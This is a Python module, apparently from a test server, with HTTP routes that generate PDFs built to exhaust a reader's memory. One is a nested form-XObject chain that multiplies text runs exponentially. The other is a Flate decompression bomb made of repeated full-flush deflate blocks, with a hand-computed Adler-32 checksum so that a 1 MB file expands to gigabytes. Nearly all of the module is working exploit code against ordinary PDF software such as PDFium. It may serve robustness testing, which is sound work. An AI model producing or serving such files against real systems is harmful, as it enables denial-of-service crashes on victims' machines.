"""PDFs that attack their reader's memory, written at run time in a few milliseconds:

- ``/pdf/xobject-chain?depth=D&fan=F``: a page that draws a form XObject which draws the
  next one F times, D levels deep; the last draws a line of text. 2.3 KB at depth 8 and
  fan 10, yet 10^7 text runs: PDFium's text page for it grew to 1.9 GB.
- ``/pdf/flate-bomb?mb=M``: a page whose content stream is one Flate stream of about M MB
  that expands to about M GB of spaces (a 1 MB file took 2.1 GB to read).

The bomb's stream is not compressed here, which would take seconds per gigabyte: deflate
blocks ended by a full flush start afresh, so one compressed block of 1 MB of spaces,
repeated, is a valid stream of as many megabytes; only the Adler-32 checksum at its end
depends on the length, and for a run of one byte value it has a closed form.
"""

from __future__ import annotations

import zlib
from functools import cache

from .asgi import TEXT, Request, Router
from .pdfs import PDF, _serialised

router = Router()

_MB = 1 << 20
_ADLER_MOD = 65521
_FILLER = 0x20  # the content stream expands to spaces: valid, if empty, page content


def xobject_chain_pdf(depth: int, fan: int) -> bytes:
    """One page drawing form XObject ``depth``, which draws XObject ``depth - 1`` ``fan``
    times, and so on; XObject 1 draws one line of text: ``fan ** (depth - 1)`` lines."""
    top = 5 + depth  # objects 6 .. 5 + depth are XObjects 1 .. depth
    page_content = b"/X Do"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(page_content), page_content),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /X %d 0 R >> >> >>" % top,
    ]
    for level in range(1, depth + 1):
        if level == 1:
            content = b"BT /F1 1 Tf 10 10 Td (chain text) Tj ET"
            resources = b"<< /Font << /F1 3 0 R >> >>"
        else:
            content = b" ".join([b"/X Do"] * fan)
            resources = b"<< /XObject << /X %d 0 R >> >>" % (5 + level - 1)
        objects.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources %s "
            b"/Length %d >>\nstream\n%s\nendstream" % (resources, len(content), content)
        )
    return _serialised(objects)


@cache
def _filler_block() -> bytes:
    """1 MB of filler, deflated and ended by a full flush: a block that decodes the same
    wherever it stands in a stream (it refers to nothing before it)."""
    deflate = zlib.compressobj(9)
    chunk = bytes([_FILLER]) * _MB
    deflate.compress(chunk)
    deflate.flush(zlib.Z_FULL_FLUSH)  # the first block also carries the stream's header
    return deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)


def _filler_adler32(length: int) -> int:
    """Adler-32 of ``length`` filler bytes: a = 1 + sum of bytes, b = the sum of every a."""
    a = (1 + _FILLER * length) % _ADLER_MOD
    b = (length + _FILLER * (length * (length + 1) // 2)) % _ADLER_MOD
    return (b << 16) | a


def flate_bomb_stream(compressed_mb: float) -> tuple[bytes, int]:
    """A zlib stream of about ``compressed_mb`` MB, and the bytes it expands to (about
    1,000 times as many)."""
    block = _filler_block()
    blocks = max(1, int(compressed_mb * _MB) // len(block))
    expanded = blocks * _MB
    # zlib header (deflate, 32 KB window, level 9), the blocks, an empty final block
    # (fixed Huffman codes, end of block), the checksum.
    stream = b"x\xda" + block * blocks + b"\x03\x00"
    return stream + _filler_adler32(expanded).to_bytes(4, "big"), expanded


def flate_bomb_pdf(compressed_mb: float) -> bytes:
    """One page whose content stream is ``flate_bomb_stream(compressed_mb)``."""
    stream, _ = flate_bomb_stream(compressed_mb)
    return _serialised(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(stream), stream),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> >>",
        ]
    )


@router.route("/pdf/xobject-chain")
async def xobject_chain(req: Request) -> None:
    try:
        depth, fan = int(req.query.get("depth") or 8), int(req.query.get("fan") or 10)
    except ValueError:
        depth = fan = 0
    if not (1 <= depth <= 20 and 1 <= fan <= 100):
        await req.respond(400, b"depth must be 1-20, fan 1-100", TEXT)
        return
    await req.respond(200, xobject_chain_pdf(depth, fan), PDF)


@router.route("/pdf/flate-bomb")
async def flate_bomb(req: Request) -> None:
    try:
        mb = float(req.query.get("mb") or 1)
    except ValueError:
        mb = 0
    if not 0.01 <= mb <= 50:
        await req.respond(400, b"mb must be 0.01-50", TEXT)
        return
    await req.respond(200, flate_bomb_pdf(mb), PDF)
